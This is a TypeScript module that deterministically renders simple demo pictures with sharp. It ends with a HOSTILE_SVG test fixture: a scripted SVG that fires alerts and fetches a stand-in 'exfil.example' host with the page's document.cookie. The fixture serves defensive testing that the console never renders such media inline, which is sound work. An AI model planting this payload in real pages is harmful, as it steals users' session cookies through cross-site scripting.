import sharp from "sharp";

import type { Prng } from "./prng";

export interface GeneratedImage {
  bytes: Buffer;
  mediaType: "image/png" | "image/jpeg";
  fileName: string;
  width: number;
  height: number;
}

const PALETTES: readonly (readonly string[])[] = [
  ["#f4a261", "#e76f51", "#2a9d8f", "#264653", "#e9c46a"],
  ["#cdb4db", "#ffc8dd", "#ffafcc", "#bde0fe", "#a2d2ff"],
  ["#606c38", "#283618", "#fefae0", "#dda15e", "#bc6c25"],
  ["#0b132b", "#1c2541", "#3a506b", "#5bc0be", "#6fffe9"],
];

const SUBJECTS = ["sunset", "garden", "harbour", "abstract", "mountains", "cat", "pizza", "street"] as const;

/**
 * A small picture made of simple shapes (a sky, a sun, hills, some blobs), rendered by sharp from SVG. Deterministic:
 * the same PRNG state gives the same bytes, so demo media hashes are stable (quarantine follows hashes).
 */
export async function generateImage(prng: Prng, index: number): Promise<GeneratedImage> {
  const palette = prng.pick(PALETTES);
  const width = prng.pick([320, 400, 480]);
  const height = Math.round((width * 3) / 4);
  const subject = prng.pick(SUBJECTS);
  const c = () => prng.pick(palette);
  const shapes: string[] = [
    `<rect width="${width}" height="${height}" fill="${c()}"/>`,
    `<rect y="${Math.round(height * 0.6)}" width="${width}" height="${Math.round(height * 0.4)}" fill="${c()}"/>`,
    `<circle cx="${prng.range(40, width - 40)}" cy="${prng.range(30, Math.round(height / 2))}" r="${prng.range(18, 50)}" fill="${c()}"/>`,
  ];
  for (let i = 0; i < prng.range(2, 6); i++) {
    const x = prng.range(0, width);
    const y = prng.range(Math.round(height / 3), height);
    shapes.push(
      `<ellipse cx="${x}" cy="${y}" rx="${prng.range(10, 80)}" ry="${prng.range(8, 40)}" fill="${c()}" opacity="0.85"/>`,
    );
  }
  shapes.push(
    `<polygon points="0,${height} ${prng.range(40, width / 2)},${Math.round(height * 0.45)} ${width},${height}" fill="${c()}" opacity="0.7"/>`,
  );
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">${shapes.join("")}</svg>`;
  const jpeg = prng.chance(0.5);
  const pipeline = sharp(Buffer.from(svg));
  const bytes = await (jpeg ? pipeline.jpeg({ quality: 72 }) : pipeline.png()).toBuffer();
  return {
    bytes,
    mediaType: jpeg ? "image/jpeg" : "image/png",
    fileName: `${subject}-${index + 1}.${jpeg ? "jpg" : "png"}`,
    width,
    height,
  };
}

/** An SVG that runs script when opened directly: hostile media for testing that the console never renders it inline. */
export const HOSTILE_SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.domain)"><script>fetch('https://exfil.example/?c='+document.cookie)</script><a href="javascript:alert(1)"><rect width="100" height="100" fill="red"/></a></svg>`,
);
